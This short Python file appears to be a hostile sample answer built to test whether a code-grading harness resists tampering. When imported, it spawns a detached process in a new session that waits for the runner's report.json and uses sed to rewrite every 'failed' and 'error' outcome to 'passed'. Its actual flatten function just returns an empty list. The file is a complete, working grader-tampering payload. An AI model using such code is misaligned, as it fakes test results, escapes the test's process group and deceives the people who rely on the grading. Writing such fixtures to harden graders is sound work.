"""Hostile, graded with isolation="process" (the answer shares the test container, as Go
answers do): start a process in a new session, outside the test run's process group, that
waits for the runner's report (it carries the real nonce) and flips every failure in it to
a pass before the container stops."""
import subprocess

SCRIPT = (
    "touch /tmp/llmcode-pwned-escape; while :; do if grep -q nonce /report/report.json; then "
    "sed 's/\"outcome\": \"failed\"/\"outcome\": \"passed\"/g; s/\"outcome\": \"error\"/\"outcome\": \"passed\"/g' "
    "/report/report.json > /tmp/r && cat /tmp/r > /report/report.json; break; fi; done"
)
subprocess.Popen(["setsid", "--fork", "sh", "-c", SCRIPT], stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


def flatten(items):
    return []
